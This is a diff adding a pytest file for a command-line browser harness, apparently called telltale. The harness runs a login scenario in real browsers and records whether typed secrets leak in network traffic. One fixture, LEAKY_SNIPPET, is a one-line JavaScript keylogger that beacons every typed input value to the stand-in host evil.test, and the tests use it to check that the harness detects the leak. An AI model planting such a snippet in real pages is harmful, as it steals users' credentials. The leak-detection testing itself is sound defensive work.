@@ -1,0 +1,118 @@
+"""The command line, called through main() with real browsers: results.json, junit.xml and exit statuses."""
+
+from __future__ import annotations
+
+import io
+import json
+import subprocess
+import sys
+import xml.etree.ElementTree as ET
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import sync_playwright
+
+from harness.browsers import find_browser
+from harness.cli import ExitStatus, main
+from harness.errors import BrowserLaunchError
+
+SITE = Path(__file__).resolve().parent.parent / "scenarios" / "site"
+
+SCENARIO = """
+name: Fill the login form and submit it
+start: https://shop.test/login.html
+secrets:
+  email: "{canary:email}"
+  password: "{canary:password}"
+steps:
+  - type: {selector: "#email", text: "{email}", delay: 5}
+  - fill: {selector: "#password", value: "{password}"}
+  - checkpoint: filled
+  - submit: "#login-form"
+  - expect: {text: "Welcome back"}
+  - leave: close
+"""
+
+LEAKY_SNIPPET = """
+addEventListener('input', (e) => navigator.sendBeacon('https://evil.test/k', e.target.value), true);
+"""
+
+
+def _run(tmp_path: Path, *extra: str) -> tuple[int, str, str]:
+    out, err = io.StringIO(), io.StringIO()
+    scenario = tmp_path / "login.yaml"
+    scenario.write_text(SCENARIO)
+    status = main(["run", str(scenario), "--site", str(SITE), "--report", str(tmp_path / "report"), *extra], out, err)
+    return status, out.getvalue(), err.getvalue()
+
+
+def test_run_writes_results_junit_and_per_run_files(tmp_path: Path) -> None:
+    status, out, err = _run(tmp_path, "--no-snippet", "--browser", "chromium")
+    assert status == ExitStatus.OK, out + err
+    report = tmp_path / "report"
+    results = json.loads((report / "results.json").read_text())
+    (run,) = results["runs"]
+    assert {k: run[k] for k in ("scenario", "browser", "status", "findings")} == {
+        "scenario": "Fill the login form and submit it", "browser": "chromium", "status": "passed", "findings": [],
+    }
+    assert run["file"].endswith("login.yaml") and run["requests"] >= 3 and run["bytes"] > 0
+    suite = ET.parse(report / "junit.xml").getroot()
+    assert suite.get("tests") == "1" and suite.get("failures") == "0"
+    run_dir = report / run["dir"]
+    timeline = json.loads((run_dir / "timeline.json").read_text())
+    assert [s["kind"] for s in timeline["steps"]] == ["type", "fill", "checkpoint", "submit", "expect", "leave"]
+    assert [s["form"] for s in timeline["submits"]] == ["#login-form"]
+    assert timeline["submits"][0]["t_ms"] > timeline["typed"][1]["t_ms"]
+    assert [t["reason"] for t in timeline["typed"]] == ["plain: typed text", "password: type=password"]
+    traffic = json.loads((run_dir / "traffic.json").read_text())
+    form_post = next(r for r in traffic["requests"] if r["method"] == "POST" and r["url"].endswith("/account.html"))
+    # The form's own submission carries the typed values: stored traffic keeps its shape, values fingerprinted.
+    assert "⟦fp:" in form_post["body"]["text"]
+    assert (run_dir / "checkpoints" / "filled-live.png").stat().st_size > 1000
+    assert "1 passed, 0 failed, 0 errors" in out and f"report: {report / 'index.html'}" in out
+
+
+def test_unload_beacon_from_a_snippet_is_in_the_run_traffic(tmp_path: Path) -> None:
+    snippet = tmp_path / "leaky.js"
+    snippet.write_text(LEAKY_SNIPPET)
+    status, out, err = _run(tmp_path, "--snippet", str(snippet), "--browser", "firefox")
+    traffic = json.loads((tmp_path / "report" / "runs" / "login-firefox" / "traffic.json").read_text())
+    beacons = [r for r in traffic["requests"] if r["url"] == "https://evil.test/k"]
+    assert beacons and all(r["channel"] == "beacon" for r in beacons)
+    # Stored traffic keeps its shape but not the typed value: the filled password's beacon is its fingerprint.
+    timeline = json.loads((tmp_path / "report" / "runs" / "login-firefox" / "timeline.json").read_text())
+    password_mark = timeline["typed"][1]["fingerprint"]
+    assert password_mark.startswith("⟦fp:") and password_mark in [r["body"]["text"] for r in beacons]
+
+
+def test_missing_browser_exits_3_with_one_line(tmp_path: Path) -> None:
+    with sync_playwright() as p:
+        try:
+            find_browser(p, "webkit")
+            pytest.skip("WebKit is installed here")
+        except BrowserLaunchError:
+            pass
+    status, out, err = _run(tmp_path, "--no-snippet", "--browser", "webkit")
+    assert status == ExitStatus.ENVIRONMENT
+    assert err.splitlines() == ["telltale: error: webkit is not installed: install it with `playwright install --with-deps webkit`"]
+
+
+@pytest.mark.parametrize(
+    ("argv", "message"),
+    [
+        (["run", "missing-dir"], "telltale: error: no such scenario file or folder: missing-dir"),
+        (["run", "scenarios", "--snippet", "nope.js"], "telltale: error: cannot read snippet nope.js: No such file or directory"),
+        (["run", "scenarios", "-j", "0"], "telltale: error: -j must be 1 or more, got 0"),
+        (["run", "--browser", "opera"], "telltale: error: argument --browser: invalid choice: 'opera' (choose from "),
+    ],
+)
+def test_bad_options_exit_2_with_one_line(argv: list[str], message: str) -> None:
+    out, err = io.StringIO(), io.StringIO()
+    assert main(argv, out, err) == ExitStatus.INVALID_INPUT
+    (line,) = err.getvalue().splitlines()
+    assert line.startswith(message)
+
+
+def test_python_m_harness_is_the_same_command() -> None:
+    done = subprocess.run([sys.executable, "-m", "harness", "run", "missing-dir"], capture_output=True, text=True)
+    assert done.returncode == 2 and done.stderr.strip() == "telltale: error: no such scenario file or folder: missing-dir"
